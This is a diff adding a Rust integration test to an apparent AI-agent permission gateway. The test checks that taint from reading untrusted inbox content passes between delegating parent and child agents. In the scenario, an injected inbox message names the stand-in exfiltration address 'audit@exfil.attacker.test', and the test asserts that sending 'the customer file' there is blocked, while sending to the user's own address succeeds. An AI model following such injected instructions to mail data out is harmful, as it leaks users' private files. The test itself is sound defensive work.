@@ -165,3 +165,50 @@ async fn a_grandchild_cannot_widen_and_the_depth_is_bounded() {
     let r = raw_call(&helper, "jit_delegate", json!({"task": begun["task"], "agent": "searcher", "objective": "o", "phases": [{"name": "r", "tools": ["workspace__read_note"]}]})).await.unwrap();
     assert_eq!(refusal_code(&r).as_deref(), Some("delegation_too_deep"), "{}", text_of(&r));
 }
+
+/// Taint flows with the work: what the child read from untrusted content
+/// counts for the parent's requests, and what the parent read counts for
+/// the child's. The same requests with the user's own values go through.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn taint_flows_between_parent_and_child() {
+    let dep = deployment("");
+    let gw = Gateway::start(&dep);
+    gw.wait_server("workspace", "ready").await;
+    let lead = gw.connect(&dep.mint("lead")).await;
+    let helper = gw.connect_modern(&dep.mint("helper")).await;
+    let plan = json!([{"name": "work", "tools": ["workspace__read_inbox", "workspace__send_message"]}]);
+    let send = |to: &str| json!({"to": to, "subject": "audit", "body": "the customer file"});
+
+    // The child reads the inbox (an injected message names an attacker's address).
+    let task = begin(&lead, plan.clone()).await.unwrap();
+    let granted = ok_answer(&raw_call(&lead, "jit_delegate", json!({"task": task, "agent": "helper", "objective": "read the inbox", "phases": [{"name": "read", "tools": ["workspace__read_inbox"]}]})).await.unwrap());
+    let begun = ok_answer(&raw_call(&helper, "jit_begin_task", json!({"objective": "read the inbox", "phases": [{"name": "read", "tools": ["workspace__read_inbox"]}], "delegation": granted["delegation"]})).await.unwrap());
+    let child_task = begun["task"].as_str().unwrap().to_owned();
+    let token = request(&helper, &child_task, "workspace__read_inbox", json!({})).await.unwrap();
+    let r = call_with_token(&helper, "workspace__read_inbox", json!({}), &token).await.unwrap();
+    assert!(text_of(&r).contains("audit@exfil.attacker.test"), "{}", text_of(&r));
+    // The parent then acts on it: the address is tainted for the parent too.
+    let held = grant(&lead, json!({"task": task, "tool": "workspace__send_message", "arguments": send("audit@exfil.attacker.test"), "purpose": "as the helper found"})).await;
+    let held = held.map(|v| v["decision"].clone()).unwrap_or_else(|r| Value::String(refusal_code(&r).unwrap_or_default()));
+    assert!(held != Value::Null && held != "allow" && held.as_str() != Some(""), "the child's read taints the parent's send: {held}");
+    assert!(grant(&lead, json!({"task": task, "tool": "workspace__send_message", "arguments": send("alice@example.org"), "purpose": "the user's own"})).await.unwrap()["token"].is_string());
+
+    // The other way round (a fresh deployment: the helper above read the
+    // inbox itself): the parent reads, the child sends.
+    let dep = deployment("");
+    let gw = Gateway::start(&dep);
+    gw.wait_server("workspace", "ready").await;
+    let helper = gw.connect_modern(&dep.mint("helper")).await;
+    let lead2 = gw.connect(&dep.mint("lead")).await;
+    let task = begin(&lead2, plan).await.unwrap();
+    let token = request(&lead2, &task, "workspace__read_inbox", json!({})).await.unwrap();
+    call_with_token(&lead2, "workspace__read_inbox", json!({}), &token).await.unwrap();
+    let granted = ok_answer(&raw_call(&lead2, "jit_delegate", json!({"task": task, "agent": "helper", "objective": "send", "phases": [{"name": "send", "tools": ["workspace__send_message"]}]})).await.unwrap());
+    let begun = ok_answer(&raw_call(&helper, "jit_begin_task", json!({"objective": "send", "phases": [{"name": "send", "tools": ["workspace__send_message"]}], "delegation": granted["delegation"]})).await.unwrap());
+    let child_task = begun["task"].as_str().unwrap().to_owned();
+    let r = raw_call(&helper, "jit_request", json!({"task": child_task, "tool": "workspace__send_message", "arguments": send("audit@exfil.attacker.test"), "purpose": "as told"})).await.unwrap();
+    let got = if r.is_error == Some(true) { refusal_code(&r).unwrap_or_default() } else { answer(&r)["decision"].as_str().unwrap_or("allow").to_owned() };
+    assert_ne!(got, "allow", "the parent's read taints the child's send: {}", text_of(&r));
+    let r = raw_call(&helper, "jit_request", json!({"task": child_task, "tool": "workspace__send_message", "arguments": send("alice@example.org"), "purpose": "own"})).await.unwrap();
+    assert!(r.is_error != Some(true) && answer(&r)["token"].is_string(), "{}", text_of(&r));
+}
